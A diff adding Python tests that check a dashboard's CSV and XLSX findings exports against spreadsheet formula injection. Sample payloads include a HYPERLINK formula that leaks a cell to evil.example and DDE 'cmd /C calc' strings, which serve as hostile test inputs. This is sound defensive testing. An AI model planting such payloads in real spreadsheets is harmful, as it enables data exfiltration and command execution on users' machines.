@@ -123,3 +123,126 @@ def test_bulk_frame_keeps_codes_and_sources_and_names_in_the_language(con, label
     kar = held[(held["indicator_id"] == "8.1.1") & (held["ref_area"] == "KZKAR")]
     assert kar[t("year", "kk")].tolist() == [2022, 2023]
     assert set(kar["placeholder"]) == {"border_change"}
+
+
+# --- formula injection (issue 12) -------------------------------------------------------------
+
+HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+HOSTILE_SOURCE = "+cmd|' /C calc'!A0"
+# Every start a spreadsheet reads as a formula (OWASP): = + - @ tab, carriage return.
+FORMULA_STARTS = [
+    HOSTILE_TEXT,
+    HOSTILE_SOURCE,
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",  # leading spaces do not hide a formula from every spreadsheet
+]
+
+
+def _findings_table() -> pd.DataFrame:
+    """A findings download as the findings page builds it (features.findings.view.display_table)."""
+    from sdgdash.features.findings import view as fnd
+
+    frame = pd.DataFrame(
+        {
+            "id": [1, 2],
+            "ref_area": ["KZKAR", "KZKAR"],
+            "territory_id": [None, None],
+            "finding_date": ["2022-10-12", "2022-10-13"],
+            "event_id": [None, "-seminar"],
+            "tags": [["household_waste"], []],
+            "priority_goals": [[11], [6, 7]],
+            "text": [HOSTILE_TEXT, "Вода: -5 °C зимой; trubы"],
+            "source": [HOSTILE_SOURCE, "@minutes"],
+            "created_by": ["aigerim", "bolat"],
+            "created_at": ["2022-10-12 10:00", "2022-10-13 11:00"],
+        }
+    )
+    return fnd.display_table(frame, "en", lambda c: "Karaganda", lambda c: c)
+
+
+def test_findings_csv_carries_no_formula_and_the_text_for_a_reader() -> None:
+    table = _findings_table()
+    data = exports.csv_bytes(table)
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
+    text, source = t("findings_col_text", "en"), t("findings_col_source", "en")
+    # A leading apostrophe marks the cell as text (OWASP); the rest is what the editor wrote.
+    assert back[text].tolist() == ["'" + HOSTILE_TEXT, "Вода: -5 °C зимой; trubы"]
+    assert back[source].tolist() == ["'" + HOSTILE_SOURCE, "'@minutes"]
+    assert back[t("findings_col_event", "en")].tolist() == ["", "'-seminar"]
+    for row in back.itertuples(index=False):
+        for cell in row:
+            assert not str(cell).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+def test_findings_xlsx_has_no_formula_cell_and_shows_the_text_as_written() -> None:
+    table = _findings_table()
+    data = exports.xlsx_bytes(table, pd.DataFrame({"field": ["title"], "value": [HOSTILE_TEXT]}))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+    data_sheet = wb["data"]
+    header = [c.value for c in data_sheet[1]]
+    text_cell = data_sheet.cell(2, header.index(t("findings_col_text", "en")) + 1)
+    source_cell = data_sheet.cell(2, header.index(t("findings_col_source", "en")) + 1)
+    # The cell holds the text itself, marked as text (Excel's quote prefix: shown as written,
+    # and not turned into a formula when someone edits the cell).
+    assert (text_cell.value, text_cell.data_type, text_cell.quotePrefix) == (
+        HOSTILE_TEXT,
+        "s",
+        True,
+    )
+    assert (source_cell.value, source_cell.quotePrefix) == (HOSTILE_SOURCE, True)
+    assert wb["metadata"]["B2"].value == HOSTILE_TEXT and wb["metadata"]["B2"].quotePrefix
+    back = pd.read_excel(io.BytesIO(data), sheet_name="data", keep_default_na=False)
+    assert (
+        back[t("findings_col_text", "en")].tolist() == table[t("findings_col_text", "en")].tolist()
+    )
+    assert back[t("findings_col_source", "en")].tolist() == [HOSTILE_SOURCE, "@minutes"]
+
+
+@pytest.mark.parametrize("cell", FORMULA_STARTS)
+def test_every_formula_start_is_made_text_in_csv_and_xlsx(cell: str) -> None:
+    frame = pd.DataFrame({"text": [cell], cell: ["header too"]})
+    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig", dtype=str)
+    assert back.columns.tolist() == ["text", "'" + cell]
+    assert back["text"].tolist() == ["'" + cell]
+    wb = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))
+    ws = wb["data"]
+    for c in (ws["A2"], ws["B1"]):
+        assert (c.value, c.data_type, c.quotePrefix) == (cell, "s", True)
+
+
+def test_numbers_stay_numbers_negative_ones_too() -> None:
+    frame = pd.DataFrame(
+        {
+            "value": [-5.5, 3.0, float("nan")],
+            "count": pd.array([-2, 0, None], dtype="Int64"),
+            # numbers written as text (formatted values): a plain number is never a formula
+            "shown": ["-5,5", "+3", "-1 234.5"],
+            "text": ["-5 degrees", "ok", None],
+        }
+    )
+    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
+    assert back["value"].tolist()[:2] == [-5.5, 3.0] and pd.isna(back["value"][2])
+    assert back["count"].tolist()[:2] == [-2, 0]
+    assert back["shown"].tolist() == ["-5,5", "+3", "-1 234.5"]
+    assert back["text"].tolist()[:2] == ["'-5 degrees", "ok"]
+    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))["data"]
+    assert (ws["A2"].value, ws["A2"].data_type) == (-5.5, "n")
+    assert (ws["B2"].value, ws["B2"].data_type) == (-2, "n")
+    assert (ws["C2"].value, ws["C2"].quotePrefix) == ("-5,5", False)
+    assert (ws["D2"].value, ws["D2"].data_type, ws["D2"].quotePrefix) == ("-5 degrees", "s", True)
+
+
+def test_control_characters_do_not_break_the_download() -> None:
+    # A finding stored before the store refused control characters (SQLite keeps a NUL).
+    frame = pd.DataFrame({"text": ["before\x00after\x0b end", "tab\tand\nnew line"]})
+    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)), encoding="utf-8-sig")
+    assert back["text"].tolist() == ["beforeafter end", "tab\tand\nnew line"]
+    ws = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(frame)))["data"]
+    assert [ws["A2"].value, ws["A3"].value] == ["beforeafter end", "tab\tand\nnew line"]
